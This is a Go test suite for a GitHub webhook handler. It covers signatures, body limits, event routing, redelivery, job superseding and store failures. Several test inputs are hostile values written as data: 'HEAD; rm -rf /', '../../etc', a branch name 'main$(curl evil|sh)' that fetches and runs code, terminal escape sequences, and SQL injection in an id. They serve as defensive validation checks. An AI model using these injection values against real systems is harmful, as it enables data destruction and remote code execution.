package webhook_test

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/gilf-review/gilf/internal/shared"
	"github.com/gilf-review/gilf/store"
	"github.com/gilf-review/gilf/validation"
	"github.com/gilf-review/gilf/webhook"
)

func TestSignatureVectors(t *testing.T) {
	raw, err := os.ReadFile(shared.Data(t, "webhook-signatures", "vectors.json"))
	if err != nil {
		t.Fatal(err)
	}
	var vectors []struct {
		Source     string `json:"source"`
		Secret     string `json:"secret"`
		BodyBase64 string `json:"body_base64"`
		BodyFile   string `json:"body_file"`
		Expected   string `json:"expected"`
	}
	if err := json.Unmarshal(raw, &vectors); err != nil {
		t.Fatal(err)
	}
	if len(vectors) < 5 {
		t.Fatalf("only %d vectors", len(vectors))
	}
	for i, v := range vectors {
		t.Run(fmt.Sprintf("%d", i), func(t *testing.T) {
			var body []byte
			if v.BodyFile != "" {
				body, err = os.ReadFile(shared.Data(t, strings.Split(v.BodyFile, "/")...))
			} else {
				body, err = base64.StdEncoding.DecodeString(v.BodyBase64)
			}
			if err != nil {
				t.Fatal(err)
			}
			if got := webhook.Sign([]byte(v.Secret), body); got != v.Expected {
				t.Fatalf("Sign = %s, want %s (%s)", got, v.Expected, v.Source)
			}
			if err := webhook.VerifySignature([]byte(v.Secret), body, []string{v.Expected}); err != nil {
				t.Fatalf("VerifySignature: %v", err)
			}
			mutated := bytes.Clone(body)
			mutated[len(mutated)/2] ^= 1
			if err := webhook.VerifySignature([]byte(v.Secret), mutated, []string{v.Expected}); !errors.Is(err, webhook.ErrBadSignature) {
				t.Fatalf("one flipped bit verified: %v", err)
			}
		})
	}
}

// TestBadSignatureStoresNothing: W1–W3. Every malformed, missing, legacy,
// repeated or wrong signature is 401 and leaves no row.
func TestBadSignatureStoresNothing(t *testing.T) {
	e := newEnv(t, webhook.Config{}, store.Options{})
	body := realPayload(t, "pull_request", "opened")
	good := webhook.Sign(e.secret, body)
	var compact bytes.Buffer
	if err := json.Compact(&compact, body); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name string
		edit func(*http.Request)
	}{
		{"missing", func(r *http.Request) { r.Header.Del("X-Hub-Signature-256") }},
		{"legacy sha1 only", func(r *http.Request) {
			r.Header.Del("X-Hub-Signature-256")
			r.Header.Set("X-Hub-Signature", "sha1=7d38cdd689735b008b3c702edd92eea23791c5f6")
		}},
		{"repeated twice", func(r *http.Request) { r.Header.Add("X-Hub-Signature-256", good) }},
		{"upper-case prefix", func(r *http.Request) { r.Header.Set("X-Hub-Signature-256", "SHA256="+good[7:]) }},
		{"upper-case hex", func(r *http.Request) { r.Header.Set("X-Hub-Signature-256", "sha256="+strings.ToUpper(good[7:])) }},
		{"63 hex digits", func(r *http.Request) { r.Header.Set("X-Hub-Signature-256", good[:len(good)-1]) }},
		{"65 hex digits", func(r *http.Request) { r.Header.Set("X-Hub-Signature-256", good+"0") }},
		{"non-hex", func(r *http.Request) { r.Header.Set("X-Hub-Signature-256", "sha256="+strings.Repeat("zz", 32)) }},
		{"empty", func(r *http.Request) { r.Header.Set("X-Hub-Signature-256", "") }},
		{"prefix only", func(r *http.Request) { r.Header.Set("X-Hub-Signature-256", "sha256=") }},
		{"wrong secret", func(r *http.Request) {
			r.Header.Set("X-Hub-Signature-256", webhook.Sign([]byte("not the secret"), body))
		}},
		{"body re-serialized in transit", func(r *http.Request) {
			r.Body = io.NopCloser(bytes.NewReader(compact.Bytes()))
			r.ContentLength = int64(compact.Len())
		}},
		{"last byte of the MAC changed", func(r *http.Request) {
			last := good[len(good)-1]
			sub := byte('0')
			if last == '0' {
				sub = '1'
			}
			r.Header.Set("X-Hub-Signature-256", good[:len(good)-1]+string(sub))
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := e.send(t, "pull_request", e.nextID(), body, tt.edit)
			if a.code != http.StatusUnauthorized || a.body.Error != "invalid signature" {
				t.Fatalf("answer %d %+v, want 401", a.code, a.body)
			}
		})
	}
	if n := e.count(t); n != 0 {
		t.Fatalf("%d deliveries stored from bad signatures", n)
	}
	// The control: the same request, signed right, is accepted.
	if a := e.send(t, "pull_request", e.nextID(), body, nil); a.code != http.StatusAccepted {
		t.Fatalf("good signature: %d %+v", a.code, a.body)
	}
}

// TestBodyLimit: W5. A body of exactly MaxBodyBytes is read and accepted;
// one byte more is 413, with or without Content-Length, and stores nothing.
func TestBodyLimit(t *testing.T) {
	e := newEnv(t, webhook.Config{}, store.Options{})
	base := realPayload(t, "pull_request", "opened")
	pad := func(n int) []byte { // valid JSON: trailing white space
		b := make([]byte, n)
		copy(b, base)
		for i := len(base); i < n; i++ {
			b[i] = ' '
		}
		return b
	}
	exact := pad(webhook.MaxBodyBytes)
	if a := e.send(t, "pull_request", e.nextID(), exact, nil); a.code != http.StatusAccepted || a.body.Status != "queued" {
		t.Fatalf("body of exactly the limit: %d %+v", a.code, a.body)
	}
	over := pad(webhook.MaxBodyBytes + 1)
	if a := e.send(t, "pull_request", e.nextID(), over, nil); a.code != http.StatusRequestEntityTooLarge {
		t.Fatalf("one byte over: %d %+v", a.code, a.body)
	}
	chunked := func(r *http.Request) { r.ContentLength = -1; r.Body = io.NopCloser(bytes.NewReader(over)) }
	if a := e.send(t, "pull_request", e.nextID(), over, chunked); a.code != http.StatusRequestEntityTooLarge {
		t.Fatalf("one byte over, chunked: %d %+v", a.code, a.body)
	}
	if n := e.count(t); n != 1 {
		t.Fatalf("deliveries = %d, want 1", n)
	}
}

// TestActionTable drives every real pull_request, ping, installation and
// other payload, plus derived ones, through the handler (W10–W12, W17).
func TestActionTable(t *testing.T) {
	type want struct {
		code   int
		status validation.DeliveryStatus
		job    bool
		inst   int64
		reason string // substring
	}
	job := want{202, validation.DeliveryQueued, true, 1, ""}
	ignored := want{202, validation.DeliveryIgnored, false, 0, "not acted on"}
	tests := []struct {
		name  string
		event string
		body  func(t *testing.T) []byte
		app   int64 // Config.AppID
		want  want
	}{
		{"opened", "pull_request", file("pull_request", "opened"), 0, job},
		{"opened with organization", "pull_request", file("pull_request", "opened.with-organization"), 0, job},
		{"synchronize", "pull_request", file("pull_request", "synchronize"), 0, job},
		{"reopened", "pull_request", file("pull_request", "reopened"), 0, job},
		{"ready_for_review with installation", "pull_request", file("pull_request", "ready_for_review.with-installation"), 0, job},
		{"ready_for_review without installation", "pull_request", file("pull_request", "ready_for_review"), 0,
			want{202, validation.DeliveryQueued, true, 0, string(validation.CodeInstallationMissing)}},
		{"assigned", "pull_request", file("pull_request", "assigned"), 0, ignored},
		{"closed cancels the PR's jobs", "pull_request", file("pull_request", "closed"), 0,
			want{202, validation.DeliveryRecorded, false, 0, "pull request closed"}},
		{"labeled", "pull_request", file("pull_request", "labeled"), 0, job},
		{"labeled with organization", "pull_request", file("pull_request", "labeled.with-organization"), 0, job},
		{"unlabeled", "pull_request", file("pull_request", "unlabeled"), 0, job},
		{"locked", "pull_request", file("pull_request", "locked"), 0, ignored},
		{"unlocked", "pull_request", file("pull_request", "unlocked"), 0, ignored},
		{"review_requested", "pull_request", file("pull_request", "review_requested"), 0, ignored},
		{"converted_to_draft", "pull_request", file("pull_request", "converted_to_draft.with-installation"), 0, ignored},
		{"unknown future action", "pull_request", edited("opened", func(m map[string]any) { m["action"] = "teleported" }), 0, ignored},
		{"edited title only", "pull_request", edited("opened", func(m map[string]any) {
			m["action"] = "edited"
			m["changes"] = map[string]any{"title": map[string]any{"from": "old"}}
		}), 0, want{202, validation.DeliveryIgnored, false, 0, "without a base branch change"}},
		{"edited base", "pull_request", edited("opened", func(m map[string]any) {
			m["action"] = "edited"
			m["changes"] = map[string]any{"base": map[string]any{"ref": map[string]any{"from": "main"}, "sha": map[string]any{"from": strings.Repeat("a", 40)}}}
		}), 0, job},
		{"draft queued: the pipeline reads review.drafts", "pull_request", edited("opened", func(m map[string]any) { pr(m)["draft"] = true }), 0, job},
		{"head repo deleted", "pull_request", edited("opened", func(m map[string]any) { pr(m)["head"].(map[string]any)["repo"] = nil }), 0,
			want{202, validation.DeliverySkipped, false, 0, "head repository missing"}},
		{"malformed head sha", "pull_request", edited("opened", func(m map[string]any) { pr(m)["head"].(map[string]any)["sha"] = "HEAD; rm -rf /" }), 0,
			want{400, validation.DeliveryInvalid, false, 0, "head sha"}},
		{"malformed repo name", "pull_request", edited("opened", func(m map[string]any) {
			m["repository"].(map[string]any)["full_name"] = "../../etc"
		}), 0, want{400, validation.DeliveryInvalid, false, 0, "full_name"}},
		{"branch name with shell and escapes is only stored", "pull_request", edited("opened", func(m map[string]any) {
			pr(m)["head"].(map[string]any)["ref"] = "main$(curl evil|sh)"
			pr(m)["title"] = "x\n\x1b[31mFAKE LOG LINE\u202e"
		}), 0, job},
		{"not JSON", "pull_request", func(t *testing.T) []byte { return []byte(`{"action": "opened",`) }, 0,
			want{400, validation.DeliveryInvalid, false, 0, "payload"}},
		{"ping", "ping", file("ping", "payload"), 0, want{200, validation.DeliveryRecorded, false, 0, "ping"}},
		{"ping that is not JSON is still answered", "ping", func(t *testing.T) []byte { return []byte(`zen`) }, 0,
			want{200, validation.DeliveryRecorded, false, 0, "ping"}},
		{"ignored event with odd fields", "workflow_job", func(t *testing.T) []byte { return []byte(`{"action":{"x":1}}`) }, 0,
			want{202, validation.DeliveryIgnored, false, 0, "workflow_job"}},
		{"installation event that is not JSON", "installation", func(t *testing.T) []byte { return []byte(`{`) }, 0,
			want{400, validation.DeliveryInvalid, false, 0, "payload"}},
		{"ping with organization", "ping", file("ping", "with-organization"), 0, want{200, validation.DeliveryRecorded, false, 0, "ping"}},
		{"installation created", "installation", file("installation", "created"), 0, want{202, validation.DeliveryRecorded, false, 0, "created"}},
		{"check_suite rerequested, App id not configured", "check_suite", file("check_suite", "rerequested"), 0,
			want{202, validation.DeliveryIgnored, false, 0, "App id is not configured"}},
		{"push", "push", file("push", "payload"), 0, want{202, validation.DeliveryIgnored, false, 0, "push"}},
		{"issue_comment", "issue_comment", file("issue_comment", "created"), 0, want{202, validation.DeliveryIgnored, false, 0, "commands in comments are off"}},
		{"pull_request_review", "pull_request_review", file("pull_request_review", "submitted"), 0, want{202, validation.DeliveryIgnored, false, 0, ""}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, webhook.Config{AppID: tt.app}, store.Options{})
			body := tt.body(t)
			id := e.nextID()
			a := e.send(t, tt.event, id, body, nil)
			if a.code != tt.want.code {
				t.Fatalf("answer %d %+v, want %d", a.code, a.body, tt.want.code)
			}
			d, err := e.db.Delivery(context.Background(), id)
			if err != nil {
				t.Fatalf("delivery not recorded: %v", err)
			}
			if d.Status != tt.want.status || !strings.Contains(d.Reason, tt.want.reason) || !bytes.Equal(d.Body, body) {
				t.Fatalf("recorded status %q reason %q (body kept: %v), want %q with %q", d.Status, d.Reason, bytes.Equal(d.Body, body), tt.want.status, tt.want.reason)
			}
			if (d.JobID != 0) != tt.want.job {
				t.Fatalf("job %d, want a job: %v", d.JobID, tt.want.job)
			}
			if !tt.want.job {
				return
			}
			if a.body.Job != d.JobID || a.body.Status != "queued" {
				t.Fatalf("answer %+v does not name job %d", a.body, d.JobID)
			}
			j, ok, err := e.db.Claim(context.Background(), "w", time.Minute)
			if err != nil || !ok {
				t.Fatalf("claim: %v %v", ok, err)
			}
			if j.InstallationID != tt.want.inst || j.Repo != "Codertocat/Hello-World" || j.PR != 2 ||
				j.HeadSHA != "ec26c3e57ca3a959ca5aad62de7213c562f8c821" || j.DeliveryID != id {
				t.Fatalf("job %+v", j)
			}
		})
	}
}

func file(event, name string) func(t *testing.T) []byte {
	return func(t *testing.T) []byte { return realPayload(t, event, name) }
}

func edited(name string, edit func(map[string]any)) func(t *testing.T) []byte {
	return func(t *testing.T) []byte { return derive(t, "pull_request", name, edit) }
}

// TestRedeliveryIsDuplicate: W6, F21. A stored GUID is answered 200 and
// does nothing twice, also when both copies arrive at once; two GUIDs for
// one head make one job (W8).
func TestRedeliveryIsDuplicate(t *testing.T) {
	e := newEnv(t, webhook.Config{}, store.Options{})
	body := realPayload(t, "pull_request", "opened")
	id := e.nextID()
	first := e.send(t, "pull_request", id, body, nil)
	if first.code != http.StatusAccepted {
		t.Fatalf("first: %d %+v", first.code, first.body)
	}
	// GitHub keeps the GUID on redelivery; case differences are the same GUID.
	again := e.send(t, "pull_request", strings.ToUpper(id), body, nil)
	if again.code != http.StatusOK || again.body.Status != "duplicate" || again.body.Job != first.body.Job {
		t.Fatalf("redelivery: %d %+v", again.code, again.body)
	}
	// Concurrent copies of one new GUID.
	id2 := e.nextID()
	reopened := realPayload(t, "pull_request", "reopened")
	var wg sync.WaitGroup
	codes := make([]int, 8)
	for i := range codes {
		wg.Go(func() { codes[i] = e.send(t, "pull_request", id2, reopened, nil).code })
	}
	wg.Wait()
	accepted, ok := 0, 0
	for _, c := range codes {
		switch c {
		case http.StatusAccepted:
			accepted++
		case http.StatusOK:
			ok++
		default:
			t.Fatalf("concurrent copy answered %d", c)
		}
	}
	if accepted != 1 || ok != 7 {
		t.Fatalf("concurrent copies: %d accepted, %d duplicates; want 1 and 7", accepted, ok)
	}
	if n := e.count(t); n != 2 {
		t.Fatalf("deliveries = %d, want 2", n)
	}
	st := e.jobState(t, first.body.Job)
	if st.Triggers != 2 {
		t.Fatalf("job triggers = %d, want 2 (opened + reopened, one job)", st.Triggers)
	}
}

// TestNewerHeadSupersedes: W9, W16. Each newer head supersedes the older
// one's job; a late, older delivery is recorded but cannot displace it.
func TestNewerHeadSupersedes(t *testing.T) {
	e := newEnv(t, webhook.Config{}, store.Options{})
	t0 := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	var jobs []int64
	for i := range 5 {
		body := derive(t, "pull_request", "synchronize", withHead(fmt.Sprintf("%040x", i+1), t0.Add(time.Duration(i)*time.Minute)))
		a := e.send(t, "pull_request", e.nextID(), body, nil)
		if a.code != http.StatusAccepted || (i > 0 && a.body.Superseded != 1) {
			t.Fatalf("push %d: %d %+v", i, a.code, a.body)
		}
		jobs = append(jobs, a.body.Job)
	}
	for i, id := range jobs[:4] {
		if st := e.jobState(t, id); st.State != store.StateSuperseded {
			t.Fatalf("job of push %d: %s, want superseded", i, st.State)
		}
	}
	late := derive(t, "pull_request", "synchronize", withHead(fmt.Sprintf("%040x", 99), t0.Add(30*time.Second)))
	a := e.send(t, "pull_request", e.nextID(), late, nil)
	if a.code != http.StatusAccepted || a.body.JobState != string(store.StateSuperseded) {
		t.Fatalf("late older push: %d %+v, want accepted and born superseded", a.code, a.body)
	}
	if st := e.jobState(t, jobs[4]); st.State != store.StateQueued {
		t.Fatalf("newest job: %s, want queued", st.State)
	}
}

// TestInstallationRemovalCancelsJobs: W15.
func TestInstallationRemovalCancelsJobs(t *testing.T) {
	e := newEnv(t, webhook.Config{}, store.Options{})
	// Jobs of installation 2 (the id in the real deleted/removed payloads).
	mk := func(repo string, n int) int64 {
		body := derive(t, "pull_request", "opened", func(m map[string]any) {
			m["installation"] = map[string]any{"id": 2}
			m["repository"].(map[string]any)["full_name"] = repo
			pr(m)["head"].(map[string]any)["sha"] = fmt.Sprintf("%040x", n)
		})
		a := e.send(t, "pull_request", e.nextID(), body, nil)
		if a.code != http.StatusAccepted {
			t.Fatalf("job: %d %+v", a.code, a.body)
		}
		return a.body.Job
	}
	hello := mk("octocat/Hello-World", 1)
	other := mk("octocat/Other", 2)
	a := e.send(t, "installation_repositories", e.nextID(), realPayload(t, "installation_repositories", "removed"), nil)
	if a.code != http.StatusAccepted || a.body.Cancelled != 1 {
		t.Fatalf("repositories removed: %d %+v", a.code, a.body)
	}
	if e.jobState(t, hello).State != store.StateCancelled || e.jobState(t, other).State != store.StateQueued {
		t.Fatal("removal cancelled the wrong jobs")
	}
	a = e.send(t, "installation", e.nextID(), realPayload(t, "installation", "deleted"), nil)
	if a.code != http.StatusAccepted || a.body.Cancelled != 1 {
		t.Fatalf("installation deleted: %d %+v", a.code, a.body)
	}
	if st := e.jobState(t, other); st.State != store.StateCancelled || st.Reason != "installation deleted" {
		t.Fatalf("other job: %+v", st)
	}
	if _, ok, err := e.db.Claim(context.Background(), "w", time.Minute); ok || err != nil {
		t.Fatalf("claimed a cancelled job: %v %v", ok, err)
	}
	// suspend cancels too; with nothing queued it cancels nothing.
	if a := e.send(t, "installation", e.nextID(), realPayload(t, "installation", "suspend"), nil); a.code != http.StatusAccepted || a.body.Cancelled != 0 {
		t.Fatalf("suspend: %d %+v", a.code, a.body)
	}
}

// TestHeaderValidation: D87. The delivery id is the idempotency key, so it
// is checked before anything is stored.
func TestHeaderValidation(t *testing.T) {
	e := newEnv(t, webhook.Config{}, store.Options{})
	body := realPayload(t, "ping", "payload")
	tests := []struct {
		name  string
		event string
		id    string
		edit  func(*http.Request)
		code  int
	}{
		{"id at the length limit", "ping", strings.Repeat("a", webhook.MaxDeliveryIDLen), nil, 200},
		{"id one over the limit", "ping", strings.Repeat("a", webhook.MaxDeliveryIDLen+1), nil, 400},
		{"10 KB id", "ping", strings.Repeat("ab-", 3400), nil, 400},
		{"SQL in the id", "ping", "1'; DROP TABLE deliveries; --", nil, 400},
		{"empty id", "ping", "", nil, 400},
		{"dashes only", "ping", "----", nil, 400},
		{"two ids", "ping", "abc", func(r *http.Request) { r.Header.Add("X-GitHub-Delivery", "def") }, 400},
		{"no event", "", "abcd", nil, 400},
		{"event with spaces", "pull request", "abce", nil, 400},
		{"event over the limit", strings.Repeat("e", webhook.MaxEventLen+1), "abcf", nil, 400},
		{"GET", "ping", "abd0", func(r *http.Request) { r.Method = http.MethodGet }, 405},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := e.send(t, tt.event, tt.id, body, tt.edit)
			if a.code != tt.code {
				t.Fatalf("answer %d %+v, want %d", a.code, a.body, tt.code)
			}
		})
	}
	if n := e.count(t); n != 1 {
		t.Fatalf("deliveries = %d, want only the valid one", n)
	}
}

// TestLockedStoreAnswers503: F11, D85. While another connection holds
// BEGIN EXCLUSIVE past busy_timeout, the answer is 503 — never a 2xx
// without a row — and comes inside GitHub's 10 s. Once the lock goes, the
// redelivery is stored and accepted.
func TestLockedStoreAnswers503(t *testing.T) {
	const busy = 500 * time.Millisecond
	e := newEnv(t, webhook.Config{}, store.Options{BusyTimeout: busy})
	lock := lockDB(t, e.path)
	body := realPayload(t, "pull_request", "opened")
	id := e.nextID()
	start := time.Now()
	a := e.send(t, "pull_request", id, body, nil)
	if took := time.Since(start); a.code != http.StatusServiceUnavailable || took < busy || took > 10*time.Second {
		t.Fatalf("locked store: %d %+v after %v, want 503 after about %v", a.code, a.body, took, busy)
	}
	lock()
	if _, err := e.db.Delivery(context.Background(), id); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("503 left a row: %v", err)
	}
	if a := e.send(t, "pull_request", id, body, nil); a.code != http.StatusAccepted {
		t.Fatalf("redelivery after the lock: %d %+v", a.code, a.body)
	}
}

// TestCommitTimeoutAnswers503: the handler's own deadline answers before
// GitHub gives up, even when the store would wait longer.
func TestCommitTimeoutAnswers503(t *testing.T) {
	const commit = 300 * time.Millisecond
	e := newEnv(t, webhook.Config{CommitTimeout: commit}, store.Options{BusyTimeout: 5 * time.Second})
	release := lockDB(t, e.path)
	defer release()
	start := time.Now()
	a := e.send(t, "ping", e.nextID(), realPayload(t, "ping", "payload"), nil)
	if took := time.Since(start); a.code != http.StatusServiceUnavailable || took < commit || took > 3*time.Second {
		t.Fatalf("answer %d after %v, want 503 after about %v", a.code, took, commit)
	}
}

func TestClosedStoreAnswers503(t *testing.T) {
	e := newEnv(t, webhook.Config{}, store.Options{})
	if err := e.db.Close(); err != nil {
		t.Fatal(err)
	}
	if a := e.send(t, "ping", e.nextID(), realPayload(t, "ping", "payload"), nil); a.code != http.StatusServiceUnavailable {
		t.Fatalf("closed store: %d %+v", a.code, a.body)
	}
}

func TestNewRefusesMissingParts(t *testing.T) {
	e := newEnv(t, webhook.Config{}, store.Options{})
	for _, tt := range []struct {
		name string
		in   webhook.Inbox
		cfg  webhook.Config
	}{
		{"empty secret", e.db, webhook.Config{}},
		{"nil inbox", nil, webhook.Config{Secret: []byte("s")}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := webhook.New(tt.in, testLogger(), tt.cfg); err == nil {
				t.Fatal("New accepted it")
			}
		})
	}
}

// TestFullDatabaseAnswers503: F13, D85. When the store cannot grow (here
// capped by store.Options.MaxBytes, SQLite's own "database or disk is
// full"), intake answers 503 and keeps no partial row; every 2xx before it
// has its row.
func TestFullDatabaseAnswers503(t *testing.T) {
	e := newEnv(t, webhook.Config{}, store.Options{MaxBytes: 512 << 10})
	accepted := 0
	for i := range 200 {
		body := derive(t, "pull_request", "opened", withHead(fmt.Sprintf("%040x", i+1), time.Now()))
		id := e.nextID()
		a := e.send(t, "pull_request", id, body, nil)
		if a.code == http.StatusAccepted {
			accepted++
			continue
		}
		if a.code != http.StatusServiceUnavailable {
			t.Fatalf("delivery %d: %d %+v, want 202 or 503", i, a.code, a.body)
		}
		if _, err := e.db.Delivery(context.Background(), id); !errors.Is(err, store.ErrNotFound) {
			t.Fatalf("503 left a row: %v", err)
		}
		if accepted == 0 || e.count(t) != accepted {
			t.Fatalf("%d accepted, %d rows", accepted, e.count(t))
		}
		return
	}
	t.Fatal("the capped store never filled up")
}

// TestConcurrentBodiesStoredExactly: the handler reuses body buffers
// between requests; every one of many concurrent deliveries of different
// sizes and contents is still stored byte for byte as it was sent.
func TestConcurrentBodiesStoredExactly(t *testing.T) {
	e := newEnv(t, webhook.Config{}, store.Options{})
	const n = 48
	bodies := make([][]byte, n)
	ids := make([]string, n)
	for i := range n {
		ids[i] = e.nextID()
		bodies[i] = derive(t, "pull_request", "opened", func(m map[string]any) {
			withHead(fmt.Sprintf("%040x", i+1), time.Unix(1700000000+int64(i), 0))(m)
			pr(m)["body"] = strings.Repeat(fmt.Sprintf("delivery %d. ", i), 1+i*40) // sizes vary
		})
	}
	var wg sync.WaitGroup
	codes := make([]int, n)
	for i := range n {
		wg.Go(func() { codes[i] = e.send(t, "pull_request", ids[i], bodies[i], nil).code })
	}
	wg.Wait()
	for i := range n {
		if codes[i] != http.StatusAccepted {
			t.Fatalf("delivery %d answered %d", i, codes[i])
		}
		got, err := e.db.Delivery(context.Background(), ids[i])
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(got.Body, bodies[i]) {
			t.Fatalf("delivery %d stored %d bytes that differ from the %d sent", i, len(got.Body), len(bodies[i]))
		}
	}
}
